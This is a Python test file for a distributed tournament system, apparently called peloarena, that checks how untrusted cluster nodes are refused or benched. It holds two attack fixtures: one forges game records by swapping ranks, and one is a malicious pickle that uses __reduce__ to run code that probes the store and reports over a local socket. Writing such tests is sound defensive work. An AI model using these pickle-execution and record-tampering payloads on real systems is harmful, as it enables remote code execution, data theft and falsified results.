"""Nodes that must not play, or are not believed: refused and named, and the tournament is played by the others."""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
from pathlib import Path

import pytest
from clusters import LocalCluster, Run, games_of, nodes_of, tournament_file
from promises import SANDBOX, needs

import peloarena
from peloarena.tournament.store import Store

PACKAGE = Path(peloarena.__file__).parent

CHANGED = """
import base64, json
from peloarena.cluster import node

honest = node.honest = getattr(node, "honest", node.play)  # Dask loads this file twice

def play(data):
    said = json.loads(honest(data))
    if said["type"] == "played":
        record = base64.b64decode(said["report"]["record"])
        changed = record.replace(b'"ranks":[1,2]', b'"ranks":[2,1]', 1)
        if changed == record:
            changed = record.replace(b'"ranks":[2,1]', b'"ranks":[1,2]', 1)
        said["report"]["record"] = base64.b64encode(changed).decode()
    return json.dumps(said).encode()

node.play = play
"""

HOSTILE = """
from peloarena.cluster import node

class Evil:
    def __reduce__(self):
        return (exec, (PROGRAM,))

PROGRAM = '''
import json, os, socket
found = [os.getuid()]
for place in (STORE, os.path.dirname(STORE)):
    try:
        found.append(open(place, "rb").read(16).hex() if place.endswith("sqlite") else os.listdir(place))
    except OSError as error:
        found.append(type(error).__name__)
with socket.create_connection(("127.0.0.1", PORT)) as told:
    told.sendall(json.dumps(found).encode())
'''.replace("STORE", repr(STORE_PATH)).replace("PORT", str(TOLD_PORT))

def play(data):
    return Evil()

node.play = play
"""


def test_a_node_of_another_version_is_refused_with_both_named(tmp_path: Path) -> None:
    other = tmp_path / "other"
    shutil.copytree(PACKAGE, other / "peloarena", ignore=shutil.ignore_patterns("__pycache__"))
    record = other / "peloarena" / "referee" / "record.py"
    record.write_text(record.read_text().replace("FORMAT = 3\n", "FORMAT = 4\n"))
    file = tournament_file(tmp_path, 1, "greedy", "random")
    with LocalCluster(tmp_path) as cluster:
        cluster.start_node("old", env={"PYTHONPATH": str(other)})
        with Run(file, "--cluster", cluster.address) as run:
            run.wait_for(lambda: "old plays no games" in run.said, "the refusal")
            cluster.start_node("new")
            assert run.end() == 0, run.said
        told = check(cluster.address)
    version = peloarena.__version__
    both = f"peloarena {version} with record 4 there, peloarena {version} with record 3 here"
    assert f"old plays no games: incompatible record version: {both}" in run.said
    assert both in told
    assert {name for name, _ in nodes_of(tmp_path / "night.sqlite").values()} == {"new"}


@needs(SANDBOX, shutil.which("bwrap") is not None)
def test_a_node_without_sandbox_gets_no_game_of_a_strict_tournament_and_says_so(tmp_path: Path) -> None:
    with LocalCluster(tmp_path) as cluster:
        hidden = "from peloarena.referee.sandbox import sandbox_tools\nsandbox_tools.find = lambda: None\n"
        (tmp_path / "site").mkdir()
        (tmp_path / "site" / "sitecustomize.py").write_text(hidden)
        cluster.start_node("open", env={"PYTHONPATH": str(tmp_path / "site")})
        told = check(cluster.address, expect=1)
        assert "plays no games" in told
        assert 'sandbox = "strict" is not possible there' in told
        assert "0 of 1 node would play" in told
        assert "1 of 1 node would play" in check(cluster.address, "--sandbox", "off", expect=0)


def test_a_node_with_a_changed_record_is_named_and_benched(tmp_path: Path) -> None:
    liar = tmp_path / "liar.py"
    liar.write_text(CHANGED)
    file = tournament_file(tmp_path, 6, "greedy", "random")
    with LocalCluster(tmp_path) as cluster:
        cluster.start_node("liar", preload=liar)
        with Run(file, "--cluster", cluster.address) as run:
            run.wait_for(lambda: "liar gets no more games in this run" in run.said, "the bench")
            cluster.start_node("honest")
            assert run.end() == 0, run.said
    assert "liar gets no more games in this run: its record is invalid: line" in run.said
    store = tmp_path / "night.sqlite"
    assert {name for name, _ in nodes_of(store).values()} == {"honest"}
    with Store.open_to_read(store) as opened:
        assert "liar is not trusted" in opened.voids()[0].reason


@needs(SANDBOX, shutil.which("bwrap") is not None)
def test_a_hostile_pickle_reaches_neither_store_nor_secret_and_its_node_is_named(tmp_path: Path) -> None:
    """Its program runs in the broker, which is what Dask cannot help; it tells by a socket what it found there."""
    file = tournament_file(tmp_path, 2, "greedy", "random")
    with socket.create_server(("127.0.0.1", 0)) as server, LocalCluster(tmp_path) as cluster:
        names = {"STORE_PATH": str(tmp_path / "night.sqlite"), "TOLD_PORT": server.getsockname()[1]}
        evil = tmp_path / "evil.py"
        evil.write_text("".join(f"{name} = {value!r}\n" for name, value in names.items()) + HOSTILE)
        cluster.start_node("evil", preload=evil)
        with Run(file, "--cluster", cluster.address) as run:
            server.settimeout(600)
            with server.accept()[0] as told:
                found = told.recv(4096).decode()
            run.wait_for(lambda: "evil gets no more games in this run" in run.said, "the bench")
            cluster.start_node("honest")
            assert run.end() == 0, run.said
    uid, *seen = json.loads(found)
    assert seen == ["FileNotFoundError", "FileNotFoundError"]
    assert uid != 0 or os.getuid() != 0
    assert "evil gets no more games in this run: it returned a NoneType, not bytes" in run.said
    assert len(games_of(tmp_path / "night.sqlite")) == 4


def check(address: str, *more: str, expect: int | None = None) -> str:
    words = [sys.executable, "-m", "peloarena.cli.main", "cluster", "check", address, *more]
    done = subprocess.run(words, capture_output=True, text=True, check=False)
    assert expect is None or done.returncode == expect, done.stdout + done.stderr
    return done.stdout


@pytest.mark.parametrize("member", ["stranger"])
def test_with_tls_a_tournament_is_played_and_who_has_no_certificate_of_it_is_not_let_in(
    tmp_path: Path, member: str
) -> None:
    keys, others = tmp_path / "keys", tmp_path / "others"
    for folder, name in ((keys, "blue"), (others, member)):
        words = [sys.executable, "-m", "peloarena.cli.main", "cluster", "certificates", str(folder), name]
        subprocess.run(words, check=True, capture_output=True)
    shutil.copy(others / f"{member}.pem", keys / f"{member}.pem")
    file = tournament_file(tmp_path, 2, "greedy", "random")
    with LocalCluster(tmp_path, tls=keys) as cluster:
        cluster.start_node(member)
        cluster.start_node("blue")
        with Run(file, "--cluster", cluster.address, "--certificates", str(keys)) as run:
            assert run.end() == 0, run.said
    assert {name for name, _ in nodes_of(tmp_path / "night.sqlite").values()} == {"blue"}
    assert member not in run.said
